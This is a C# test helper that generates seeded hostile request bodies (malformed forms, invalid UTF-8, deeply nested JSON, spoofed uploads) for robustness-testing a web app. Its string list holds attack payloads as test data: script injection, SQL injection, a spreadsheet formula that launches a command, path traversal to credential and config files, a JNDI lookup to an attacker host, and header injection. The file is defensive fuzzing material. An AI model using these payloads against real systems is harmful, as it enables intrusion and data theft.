using System.Globalization;
using System.Net.Http.Headers;
using System.Reflection;
using System.Text;
using System.Text.Json.Serialization;
using Microsoft.AspNetCore.Http;

namespace MuniSocial.Tests.Support;

/// <summary>
/// A seeded generator of hostile requests (issue 14 item 15): wrong types, huge and empty values, control and bidi characters,
/// lone surrogates, invalid UTF-8, duplicated keys, deeply nested JSON, arrays where objects are expected, wrong content types.
/// Our own seeded <see cref="Random"/> (not FsCheck): the same seed gives the same inputs, and every input can be printed.
/// </summary>
public sealed class Hostile(int seed)
{
    private readonly Random _random = new(seed);

    /// <summary>One request body and how to describe it when it breaks something.</summary>
    public sealed record Input(string Description, HttpContent Content);

    private static readonly string[] Strings =
    [
        "", " ", "\t", "\r\n", "\u0000", "a\u0000b", "\u202Eevil.exe\u202C", "\u200B\u200D\uFEFF", "\u0007\u001b[31m", "\uD800", "\uDC00x", "\uFFFF",
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "' OR '1'='1' --", "'; DROP TABLE \"Accounts\";--", "=1+2", "@SUM(1)", "+cmd|' /C calc'!A0",
        "-1", "0", "-0", "1e309", "NaN", "Infinity", "99999999999999999999999999", "2147483648", "-2147483649", "0x1F", "１２３", "٣", "1,5",
        "true", "false", "TRUE", "on", "null", "undefined", "[]", "{}", "{\"a\":1}",
        "00000000-0000-0000-0000-000000000000", "01a22d9c-0000-7000-8000-000000000000", "not-a-guid", "{01a22d9c-0000-7000-8000-000000000000}",
        "2026-02-30", "0001-01-01", "9999-12-31", "99999-01-01", "2026-13-01", "25:61", "24:00", "-1:00", "2026-06-01T09:00:00+14:00",
        "javascript:alert(1)", "file:///etc/passwd", "http://[::1]:22/", "https://x.com/" + new string('a', 3000), "//evil.example/", "data:text/html,<b>x</b>",
        "../../../../etc/passwd", "..\\..\\web.config", "%00", "%ZZ", "${jndi:ldap://evil/x}", "{{7*7}}", "@(1+1)", "\r\nSet-Cookie: x=1",
        "👨‍👩‍👧‍👦", string.Concat(Enumerable.Repeat("e\u0301", 500)), "𠮷野家", "ｶﾀｶﾅ", "名寄市", "X", "Line", "Facebook", "City", "NoReply", "Monday",
    ];

    public T Pick<T>(IReadOnlyList<T> items) => items[_random.Next(items.Count)];

    public int Next(int max) => _random.Next(max);

    /// <summary>Whether the input being made still has its one 1 MB value to place (one input in 20 has one).</summary>
    private bool _huge;

    private void StartInput() => _huge = _random.Next(20) == 0;

    /// <summary>A hostile text value (the input's 1 MB one, when it has one left).</summary>
    public string Text(int hugeOneIn = 3)
    {
        if (_huge && _random.Next(hugeOneIn) == 0)
        {
            _huge = false;
            return new string(Pick(['a', '名', '\u202E']), 1 << 20);
        }
        return _random.Next(10) switch
        {
            0 => new string(Pick(['a', '名', ' ', '\n']), _random.Next(1, 20_000)),
            1 => Pick(Strings) + Pick(Strings),
            2 => _random.Next().ToString(CultureInfo.InvariantCulture),
            _ => Pick(Strings),
        };
    }

    // ---- forms --------------------------------------------------------------------------------------

    /// <summary>A form field the page binds: its name, whether it takes several values, whether it is a file.</summary>
    public sealed record Field(string Name, bool Many, bool File);

    /// <summary>The form fields a bound model of <paramref name="type"/> named <paramref name="name"/> reads (Input.X, Input.Y, …).</summary>
    public static IEnumerable<Field> FieldsOf(string name, Type type, int depth = 0)
    {
        var inner = Nullable.GetUnderlyingType(type) ?? type;
        if (typeof(IFormFile).IsAssignableFrom(inner) || typeof(IFormFileCollection).IsAssignableFrom(inner))
        {
            return [new Field(name, false, true)];
        }
        if (IsSimple(inner))
        {
            return [new Field(name, false, false)];
        }
        if (inner != typeof(string) && ElementOf(inner) is { } element)
        {
            return IsSimple(Nullable.GetUnderlyingType(element) ?? element) ? [new Field(name, true, false)] : FieldsOf($"{name}[0]", element, depth + 1);
        }
        if (depth > 2)
        {
            return [];
        }
        return inner.GetProperties(BindingFlags.Public | BindingFlags.Instance)
            .Where(p => p.CanWrite && p.GetIndexParameters().Length == 0)
            .SelectMany(p => FieldsOf($"{name}.{p.Name}", p.PropertyType, depth + 1));
    }

    private static bool IsSimple(Type t) => t.IsPrimitive || t.IsEnum || t == typeof(string) || t == typeof(decimal) || t == typeof(Guid)
        || t == typeof(DateOnly) || t == typeof(TimeOnly) || t == typeof(DateTime) || t == typeof(DateTimeOffset) || t == typeof(TimeSpan) || t == typeof(Uri);

    private static Type? ElementOf(Type t) => t.IsArray ? t.GetElementType()
        : t.GetInterfaces().Append(t).FirstOrDefault(i => i.IsGenericType && i.GetGenericTypeDefinition() == typeof(IEnumerable<>))?.GetGenericArguments()[0];

    /// <summary>A hostile submission of a form with <paramref name="fields"/> and a valid antiforgery <paramref name="token"/>.</summary>
    public Input Form(IReadOnlyList<Field> fields, string token)
    {
        StartInput();
        var values = new List<KeyValuePair<string, string>> { new("__RequestVerificationToken", token) };
        foreach (var field in fields.Where(f => !f.File))
        {
            var count = _random.Next(6) switch { 0 => 0, 1 => field.Many ? _random.Next(2, 40) : 2, _ => 1 }; // missing, duplicated, one
            for (var i = 0; i < count; i++)
            {
                values.Add(new(field.Name, Text()));
            }
        }
        if (_random.Next(8) == 0)
        {
            values.Add(new("x" + Text(hugeOneIn: 1000), Text())); // a field the page does not know
        }
        var described = string.Join("&", values.Where(v => v.Key != "__RequestVerificationToken").Select(v => $"{Show(v.Key)}={Show(v.Value)}"));
        var files = fields.Where(f => f.File).ToList();
        switch (_random.Next(files.Count > 0 ? 4 : 12))
        {
            case 0 or 1 or 2:
                var multipart = new MultipartFormDataContent();
                foreach (var (key, value) in values)
                {
                    // A part's name is a header value: control characters and lone surrogates cannot be sent there.
                    multipart.Add(new StringContent(value), new string([.. key.Select(c => char.IsControl(c) || char.IsSurrogate(c) || c == '"' ? '_' : c)]).Trim() is { Length: > 0 } name ? name : "_");
                }
                foreach (var file in files)
                {
                    var bytes = Bytes();
                    multipart.Add(new ByteArrayContent(bytes) { Headers = { ContentType = new MediaTypeHeaderValue(Pick(["text/csv", "image/png", "application/octet-stream", "text/html"])) } },
                        file.Name, Pick(["comments.csv", "../../evil.csv", "a\u202Egpj.exe", " .csv", new string('x', 300) + ".png"]));
                    described += $" +file {file.Name} ({bytes.Length} bytes)";
                }
                return new Input("multipart " + described, multipart);
            case 3:
                // Invalid UTF-8 and a percent-encoded lone surrogate inside a form body.
                var raw = Encoding.ASCII.GetBytes($"__RequestVerificationToken={Uri.EscapeDataString(token)}&")
                    .Concat(fields.SelectMany(f => Encoding.ASCII.GetBytes(Uri.EscapeDataString(f.Name) + "=").Concat(Pick<byte[]>([[0xFF, 0xFE], [0xC3, 0x28], [0xED, 0xA0, 0x80], Encoding.ASCII.GetBytes("%ED%A0%80%FF")])).Append((byte)'&')))
                    .ToArray();
                return new Input("invalid UTF-8 form " + Convert.ToHexString(raw[..Math.Min(raw.Length, 200)]), Raw(raw, "application/x-www-form-urlencoded"));
            case 4:
                return new Input("JSON instead of a form " + described, new StringContent(Json(null, 0), Encoding.UTF8, "application/json"));
            default:
                return new Input("form " + described, new FormUrlEncodedContent(values));
        }
    }

    // ---- JSON ---------------------------------------------------------------------------------------

    /// <summary>A hostile body for an endpoint whose body is <paramref name="type"/> (null: it reads none).</summary>
    public Input Body(Type? type)
    {
        StartInput();
        switch (_random.Next(20))
        {
            case 0:
                return new Input("empty body", Raw([], "application/json"));
            case 1:
                var bytes = new byte[] { (byte)'{', (byte)'"', (byte)'a', (byte)'"', (byte)':', (byte)'"', 0xFF, 0xFE, 0xC3, 0x28, (byte)'"', (byte)'}' };
                return new Input("invalid UTF-8 in JSON", Raw(bytes, "application/json"));
            case 2:
                var depth = _random.Next(65, 5000);
                return new Input($"JSON nested {depth} deep", Raw(Encoding.UTF8.GetBytes(new string('[', depth) + new string(']', depth)), "application/json"));
            case 3:
                return new Input("a form instead of JSON", new FormUrlEncodedContent([new("a", Text())]));
            case 4:
                return new Input("text/plain", new StringContent(Json(type, 0), Encoding.UTF8, "text/plain"));
            case 5:
                return new Input("truncated JSON", Raw(Encoding.UTF8.GetBytes("{\"" + Text(1000)), "application/json"));
            case 6:
                var array = "[" + Json(type, 0) + "," + Json(type, 0) + "]";
                return new Input("an array where an object is expected: " + Show(array), Raw(Encoding.UTF8.GetBytes(array), "application/json"));
            default:
                var json = Json(type, 0);
                return new Input("JSON " + Show(json), Raw(Encoding.UTF8.GetBytes(json), "application/json"));
        }
    }

    /// <summary>JSON text for <paramref name="type"/> with hostile values, duplicated and unknown keys (written by hand: duplicates and lone surrogates are the point).</summary>
    private string Json(Type? type, int depth)
    {
        var inner = type is null ? null : Nullable.GetUnderlyingType(type) ?? type;
        if (inner is null || depth > 3 || IsSimple(inner) || _random.Next(12) == 0)
        {
            return Value(depth);
        }
        if (inner != typeof(string) && ElementOf(inner) is { } element)
        {
            return "[" + string.Join(",", Enumerable.Range(0, _random.Next(0, 5)).Select(_ => Json(element, depth + 1))) + "]";
        }
        var members = new List<string>();
        foreach (var p in inner.GetProperties(BindingFlags.Public | BindingFlags.Instance))
        {
            var name = p.GetCustomAttribute<JsonPropertyNameAttribute>()?.Name ?? JsonNamingPolicyCamel(p.Name);
            var count = _random.Next(8) switch { 0 => 0, 1 => 2, _ => 1 };
            for (var i = 0; i < count; i++)
            {
                members.Add($"{Quote(name)}:{(_random.Next(3) == 0 ? Value(depth) : Json(p.PropertyType, depth + 1))}");
            }
        }
        if (_random.Next(6) == 0)
        {
            members.Add($"{Quote(Text(1000))}:{Value(depth)}");
        }
        return "{" + string.Join(",", members.OrderBy(_ => _random.Next())) + "}";
    }

    private string Value(int depth) => _random.Next(10) switch
    {
        0 => "null",
        1 => Pick(["0", "-1", "1e309", "-0.0", "99999999999999999999999999999", "1.5", "2147483648", "true", "false"]),
        2 => depth < 3 ? "[" + Value(depth + 1) + "," + Value(depth + 1) + "]" : "[]",
        3 => depth < 3 ? "{" + Quote(Text(1000)) + ":" + Value(depth + 1) + "}" : "{}",
        4 => "\"\\ud800\"", // a lone surrogate, escaped
        _ => Quote(Text()),
    };

    private static string JsonNamingPolicyCamel(string name) => System.Text.Json.JsonNamingPolicy.CamelCase.ConvertName(name);

    private static string Quote(string s)
    {
        var text = new StringBuilder("\"");
        foreach (var c in s)
        {
            text.Append(c switch
            {
                '"' => "\\\"",
                '\\' => "\\\\",
                < ' ' or (>= '\uD800' and <= '\uDFFF') => $"\\u{(int)c:x4}",
                _ => c.ToString(),
            });
        }
        return text.Append('"').ToString();
    }

    private byte[] Bytes() => _random.Next(5) switch
    {
        0 => [],
        1 => [0xFF, 0xFE, 0x00, 0x00, 0xC3, 0x28],
        2 => Encoding.UTF8.GetBytes("=1+2,\"@SUM(1)\",\u202E\n" + string.Join("\n", Enumerable.Repeat("a,b,c,d,e,f,g", _random.Next(1, 2000)))),
        3 => [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 13, (byte)'I', (byte)'H', (byte)'D', (byte)'R', 0x00, 0x00],
        _ => Encoding.UTF8.GetBytes(Text()),
    };

    private static ByteArrayContent Raw(byte[] bytes, string contentType) =>
        new(bytes) { Headers = { ContentType = MediaTypeHeaderValue.Parse(contentType) } };

    /// <summary>A value as printed in a failure: escaped, at most 300 characters.</summary>
    public static string Show(string s)
    {
        var escaped = string.Concat(s.Take(300).Select(c => c < ' ' || c is >= '\uD800' and <= '\uDFFF' or '\u202E' ? $"\\u{(int)c:x4}" : c.ToString()));
        return s.Length > 300 ? $"{escaped}…({s.Length} chars)" : escaped;
    }
}
